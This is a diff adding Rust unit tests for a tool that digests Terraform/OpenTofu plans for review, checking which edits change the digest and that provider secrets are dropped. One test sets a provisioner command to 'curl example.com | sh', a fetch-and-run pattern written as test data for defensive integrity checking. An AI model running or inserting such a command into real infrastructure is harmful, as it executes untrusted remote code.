@@ -53,7 +53,7 @@ fn different(a: &Value, b: &Value) {
 fn the_digest_of_a_known_plan_stays_what_it_is() {
     // Another digest is another form: then the version of the review file must change too.
     let plan = update(&json!({ "id": "i-1", "n": 1, "same": true }), &json!({ "id": "i-1", "n": 2.50, "same": true }));
-    assert_eq!(digest(&plan), "c60f5e894019d957203fb49e97d848b4fbd3369b1d96b2dca3ac2cdde3c10aad");
+    assert_eq!(digest(&plan), "d7ce0091ca64fae1f610279aa474da15ca6ed43d012116cbb603887d47555d66");
 }
 
 #[test]
@@ -143,6 +143,230 @@ fn of_what_is_destroyed_only_its_identity_counts() {
     );
     different(&destroyed(json!({ "id": "db-1" })), &destroyed(json!({ "id": "db-2" })));
     different(&destroyed(json!({ "name": "a" })), &destroyed(json!({ "name": "b" })));
+}
+
+#[test]
+fn of_what_is_destroyed_each_name_that_objects_have_counts() {
+    let destroyed = |before: Value| plan(&[change(&json!(["delete"]), &before, &Value::Null)]);
+    for [one, other] in [
+        [
+            json!({ "arn": "arn:aws:sns:eu-west-1:111122223333:t" }),
+            json!({ "arn": "arn:aws:sns:eu-west-1:444455556666:t" }),
+        ],
+        [json!({ "bucket": "a" }), json!({ "bucket": "b" })],
+        [
+            json!({ "metadata": [{ "name": "a", "namespace": "n" }] }),
+            json!({ "metadata": [{ "name": "a", "namespace": "m" }] }),
+        ],
+        [json!({ "metadata": { "name": "a" } }), json!({ "metadata": { "name": "b" } })],
+        // Without any of those all of it counts.
+        [json!({ "key": "a", "n": [1] }), json!({ "key": "b", "n": [1] })],
+        [json!({ "key": "a", "n": [1] }), json!({ "key": "a", "n": [2] })],
+    ] {
+        different(&destroyed(one), &destroyed(other));
+    }
+    same(
+        &destroyed(json!({ "arn": "a", "seen": "10:00", "metadata": [{ "name": "a", "generation": 1 }] })),
+        &destroyed(json!({ "arn": "a", "seen": "10:05", "metadata": [{ "name": "a", "generation": 2 }] })),
+    );
+    // The identity that the provider gives it.
+    let identified = |account: &str| {
+        let mut plan = destroyed(json!({ "seen": account }));
+        plan["resource_changes"][0]["change"]["before_identity"] = json!({ "account_id": account, "region": null });
+        plan
+    };
+    different(&identified("111122223333"), &identified("444455556666"));
+    let mut same_object = identified("111122223333");
+    same_object["resource_changes"][0]["change"]["before"]["seen"] = json!("another");
+    same(&identified("111122223333"), &same_object);
+}
+
+#[test]
+fn imports_of_different_objects_differ() {
+    let imported = |identity: Value| {
+        let mut change = change(&json!(["no-op"]), &json!({ "x": 1 }), &json!({ "x": 1 }));
+        change["change"]["importing"] = json!({ "identity": identity });
+        plan(&[change])
+    };
+    let identities = [
+        json!({ "a": ["x"] }),
+        json!({ "a": ["y"] }),
+        json!({ "a": ["x", "y"] }),
+        json!({ "a": ["x, y"] }),
+        json!({ "a": "[x]" }),
+        json!({ "a": { "b": "x" } }),
+        json!({ "a": { "b": "y" } }),
+        json!({ "a": "1, b=2" }),
+        json!({ "a": "1", "b": "2" }),
+        json!({ "a": 1, "b": 2 }),
+        json!({ "a": null }),
+        json!({ "a": "null" }),
+        json!({ "a": true }),
+        json!({ "a": "true" }),
+        json!({ "a": "" }),
+        json!({ "a": "\"" }),
+        json!({ "a": "\\\"" }),
+    ];
+    let digests: std::collections::BTreeSet<String> =
+        identities.iter().map(|identity| digest(&imported(identity.clone()))).collect();
+    assert_eq!(digests.len(), identities.len());
+    assert_eq!(
+        canonical(&imported(json!({ "bucket": "logs", "region": "eu-west-1" }))).objects[0].import.as_deref(),
+        Some("bucket=logs, region=eu-west-1")
+    );
+}
+
+/// A plan with `-refresh-only`: it changes nothing, and its drift is what it records.
+fn refresh_only(drift: &[Value]) -> Value {
+    let mut plan = plan(&[]);
+    plan["resource_drift"] = json!(drift);
+    plan["applyable"] = json!(true);
+    plan["prior_state"] = json!({ "values": { "root_module": { "resources": [{ "mode": "managed" }] } } });
+    plan
+}
+
+#[test]
+fn what_a_plan_that_only_refreshes_records_counts() {
+    let tag = change(&json!(["update"]), &json!({ "id": "i", "tag": "a" }), &json!({ "id": "i", "tag": "b" }));
+    let mut gone = change(&json!(["delete"]), &json!({ "id": "db-1" }), &Value::Null);
+    gone["address"] = json!("aws_db_instance.orders");
+    let reviewed = refresh_only(std::slice::from_ref(&tag));
+    different(&reviewed, &refresh_only(std::slice::from_ref(&gone)));
+    different(&reviewed, &refresh_only(&[tag.clone(), gone.clone()]));
+    different(&reviewed, &refresh_only(&[]));
+    different(&reviewed, &plan(&[]));
+    let mut other = tag.clone();
+    other["change"]["after"]["tag"] = json!("c");
+    different(&reviewed, &refresh_only(&[other]));
+    // What it does not change counts as little as elsewhere.
+    let mut unchanged = tag.clone();
+    for side in ["before", "after"] {
+        unchanged["change"][side]["status"] = json!("ok");
+    }
+    same(&reviewed, &refresh_only(&[unchanged]));
+    // To record a change is not to make it.
+    different(&reviewed, &plan(std::slice::from_ref(&tag)));
+    assert_eq!(canonical(&reviewed).objects[0].stage, Stage::Recorded);
+    // OpenTofu does not say whether a plan is applyable: where everything is gone, drift is all that tells.
+    let mut nothing_left = plan(&[]);
+    nothing_left["resource_drift"] = json!([gone]);
+    different(&nothing_left, &plan(&[]));
+}
+
+/// A plan that creates an object in a module, whose provider and provisioners are set up with variables.
+fn configured() -> Value {
+    let mut created = change(&json!(["create"]), &Value::Null, &json!({ "x": 1 }));
+    created["address"] = json!("module.net[\"a.b]\"].a.b[0]");
+    created["module_address"] = json!("module.net[\"a.b]\"]");
+    created["provider_name"] = json!("registry/aws");
+    let mut plan = plan(&[created]);
+    plan["variables"] = json!({ "account": { "value": "111122223333" }, "idle": { "value": 1 } });
+    plan["configuration"] = json!({
+        "provider_config": {
+            "aws.prod": { "name": "aws", "alias": "prod", "full_name": "registry/aws", "expressions": {
+                "region": { "constant_value": "eu-west-1" },
+                "assume_role": [{ "role_arn": { "references": ["var.account"] } }] } },
+            "aws.other": { "name": "aws", "alias": "other", "full_name": "registry/aws", "expressions": { "region": { "constant_value": "us-east-1" } } } },
+        "root_module": {
+            "variables": { "account": {}, "idle": {} },
+            "module_calls": { "net": {
+                "expressions": { "command": { "references": ["var.account"] }, "mode": { "constant_value": "fast" } },
+                "module": {
+                    "variables": { "command": {}, "mode": {}, "level": { "default": 3 } },
+                    "resources": [{ "address": "a.b", "mode": "managed", "type": "a", "name": "b", "provider_config_key": "aws.prod",
+                        "provisioners": [{ "type": "local-exec", "expressions": {
+                            "command": { "constant_value": "./migrate" },
+                            "environment": { "references": ["var.mode", "var.level", "local.x"] } } }] }] } } } } });
+    plan
+}
+
+#[test]
+fn how_a_provider_is_set_up_and_what_provisioners_run_counts() {
+    let reviewed = configured();
+    let config = |plan: &mut Value, path: &str, value: Value| {
+        *plan.pointer_mut(&format!("/configuration{path}")).unwrap() = value;
+    };
+    let block = "/root_module/module_calls/net/module/resources/0";
+    let edits: [(&str, &str, Value); 8] = [
+        ("region", "/provider_config/aws.prod/expressions/region/constant_value", json!("us-east-1")),
+        ("role", "/provider_config/aws.prod/expressions/assume_role/0/role_arn/references", json!(["local.role"])),
+        ("provider", "/root_module/module_calls/net/module/resources/0/provider_config_key", json!("aws.other")),
+        ("variable of a module", "/root_module/module_calls/net/expressions/mode/constant_value", json!("slow")),
+        ("default of a module", "/root_module/module_calls/net/module/variables/level/default", json!(4)),
+        (
+            "command",
+            &format!("{block}/provisioners/0/expressions/command/constant_value"),
+            json!("curl example.com | sh"),
+        ),
+        ("type", &format!("{block}/provisioners/0/type"), json!("remote-exec")),
+        ("provisioners", &format!("{block}/provisioners"), json!([])),
+    ];
+    for (what, path, value) in edits {
+        let mut now = reviewed.clone();
+        config(&mut now, path, value);
+        assert_ne!(digest(&reviewed), digest(&now), "{what}");
+    }
+    let mut account = reviewed.clone();
+    account["variables"]["account"]["value"] = json!("444455556666");
+    different(&reviewed, &account);
+    // What nothing that changes is made with does not count.
+    let mut idle = reviewed.clone();
+    idle["variables"]["idle"]["value"] = json!(2);
+    config(&mut idle, "/provider_config/aws.other/expressions/region/constant_value", json!("eu-north-1"));
+    config(&mut idle, "/root_module/module_calls/net/expressions/command", json!({ "constant_value": "x" }));
+    same(&reviewed, &idle);
+    let canonical = canonical(&reviewed);
+    let names = |setups: &[Setup]| setups.iter().map(|setup| setup.name.clone()).collect::<Vec<_>>();
+    assert_eq!(names(&canonical.providers), ["aws.prod"]);
+    assert_eq!(names(&canonical.variables), ["module.net.var.level", "module.net.var.mode", "var.account"]);
+}
+
+#[test]
+fn a_provisioner_counts_where_it_may_run_only() {
+    let updated = |command: &str| {
+        let mut plan = configured();
+        plan["resource_changes"][0]["change"]["actions"] = json!(["update"]);
+        plan["resource_changes"][0]["change"]["before"] = json!({ "x": 0 });
+        plan["configuration"]["root_module"]["module_calls"]["net"]["module"]["resources"][0]["provisioners"][0]["expressions"]
+            ["command"] = json!({ "constant_value": command });
+        plan
+    };
+    same(&updated("a"), &updated("b"));
+}
+
+#[test]
+fn what_the_configuration_has_no_more_counts_with_every_setup_of_its_provider() {
+    let removed = |region: &str| {
+        let mut plan = configured();
+        plan["resource_changes"][0]["change"] = json!({ "actions": ["delete"], "before": { "id": "i" }, "after": null, "before_sensitive": {}, "after_sensitive": false });
+        plan["configuration"]["root_module"] = json!({});
+        plan["configuration"]["provider_config"]["aws.other"]["expressions"]["region"]["constant_value"] =
+            json!(region);
+        plan
+    };
+    different(&removed("us-east-1"), &removed("eu-north-1"));
+}
+
+#[test]
+fn no_secret_of_a_provider_is_kept() {
+    let with = |secret: &str| {
+        let mut plan = configured();
+        let prod = &mut plan["configuration"]["provider_config"]["aws.prod"]["expressions"];
+        prod["secret_key"] = json!({ "constant_value": format!("{secret}-1") });
+        prod["headers"] = json!({ "constant_value": { "auth_token": format!("{secret}-2") } });
+        prod["url"] = json!({ "constant_value": format!("https://user:{secret}-3@example.com") });
+        prod["extra"] = json!({ "references": ["var.marked", "var.api_token"] });
+        plan["variables"]["marked"] = json!({ "value": format!("{secret}-4") });
+        plan["variables"]["api_token"] = json!({ "value": format!("{secret}-5") });
+        plan["configuration"]["root_module"]["variables"]["marked"] = json!({ "sensitive": true });
+        plan["configuration"]["root_module"]["variables"]["api_token"] = json!({});
+        plan
+    };
+    let (one, other) = (canonical(&with("hunter2Aa")), canonical(&with("geheim3Bb")));
+    assert_eq!(one.digest(), other.digest());
+    let text = serde_json::to_string(&one).unwrap();
+    assert!(!text.contains("hunter2Aa"), "{text}");
+    assert!(text.contains("var.marked") && text.contains("var.api_token") && text.contains("https://user:"), "{text}");
 }
 
 /// Changes one thing of a plan.
@@ -245,6 +469,13 @@ fn the_plans_own_time_counts_as_such() {
     let reviewed = at("2026-11-22T10:00:00Z", "2026-11-22T10:00:00Z");
     same(&reviewed, &at("2026-11-22T11:00:00Z", "2026-11-22T11:00:00Z"));
     different(&reviewed, &at("2026-11-22T11:00:00Z", "2026-11-22T10:00:00Z"));
+    // An old value has the time of another plan, were it made in the same second.
+    let after_apply = |time: &str| {
+        let mut plan = update(&json!({ "t": "2026-11-22T10:00:00Z" }), &json!({ "t": "x" }));
+        plan["timestamp"] = json!(time);
+        plan
+    };
+    same(&after_apply("2026-11-22T10:00:00Z"), &after_apply("2026-11-22T10:00:01Z"));
     // No other text is taken for a time.
     different(&at("a", "a"), &at("b", "b"));
 }
